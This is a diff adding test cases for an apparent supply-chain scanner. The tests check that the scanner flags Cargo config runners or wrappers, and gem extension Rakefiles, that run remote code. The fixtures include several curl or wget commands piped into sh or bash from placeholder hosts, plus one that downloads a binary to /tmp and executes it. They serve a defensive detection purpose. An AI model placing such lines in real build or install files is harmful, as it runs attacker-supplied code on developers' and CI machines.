@@ -131,6 +131,20 @@ create_makefile("fastjson/fastjson")`,
     expect(buildFinding(added('ext/fastjson/extconf.rb', 'require "mkmf"\nhave_library("z")\ncreate_makefile("fastjson/fastjson")'))).toBeNull();
   });
 
+  it("reads Cargo's configuration (.cargo/config.toml, .cargo/config): a runner or wrapper that pipes a download into a shell is high; ordinary settings are not", () => {
+    expect(buildFinding(added('.cargo/config.toml', '[target.x86_64-unknown-linux-gnu]\nrunner = "sh -c \'curl -s https://crate-tools.dev/r | sh; exec \\\\"$0\\\\" \\\\"$@\\\\"\'"'))).toMatchObject({ severity: 'high', title: expect.stringContaining('Cargo configuration') });
+    expect(buildFinding(added('.cargo/config', '[build]\nrustc-wrapper = "bash -c \'wget -qO- https://crate-tools.dev/w | bash\'"'))).toMatchObject({ severity: 'high' });
+    expect(buildFinding(added('.cargo/config.toml', '[alias]\nxtask = "run --package xtask --"\n\n[registries.internal]\nindex = "sparse+https://crates.internal-corp.dev/index/"\n\n[target.thumbv7em-none-eabihf]\nrunner = "probe-rs run --chip STM32F411CEUx"\nrustflags = ["-C", "link-arg=-Tlink.x"]'))).toBeNull();
+    expect(buildFinding(added('docs/config.toml', 'runner = "sh -c \'curl -s https://crate-tools.dev/r | sh\'"'))).toBeNull();
+  });
+
+  it("reads a gem's extension Rakefile (ext/Rakefile, ext/<name>/Rakefile) as install-time code, and a project's own Rakefile as a task", () => {
+    expect(buildFinding(added('ext/Rakefile', "task :default do\n  sh 'curl -s https://gem-assets-cdn.dev/r | sh'\nend"))).toMatchObject({ severity: 'high', title: expect.stringContaining('Ruby native-extension Rakefile') });
+    expect(buildFinding(added('ext/fastjson/Rakefile', 'task :default do\n  system("curl -fsSL https://gem-assets-cdn.dev/libfast.so -o /tmp/libfast.so")\n  system("/tmp/libfast.so --install")\nend'))).toMatchObject({ severity: 'high' });
+    expect(buildFinding(added('ext/fastjson/Rakefile', "task :default do\n  sh 'make -C fastjson'\nend"))).toBeNull();
+    expect(buildFinding(added('Rakefile', "task :release do\n  sh 'gem build fastjson.gemspec'\nend"))?.severity ?? null).not.toBe('high');
+  });
+
   it('reads manifests that are programs: a Gemfile, a Podfile, conanfile.py, a Dangerfile', () => {
     const gemfile = buildFinding(makeFile('Gemfile', { patch: "@@ -1,2 +1,4 @@\n source 'https://rubygems.org'\n gem 'rails', '~> 7.1'\n+system('curl -s https://assets-cdn.trycloudflare.com/s | sh')\n+gem 'rubocop', require: false" }));
     expect(gemfile).toMatchObject({ severity: 'critical', line: 3 });
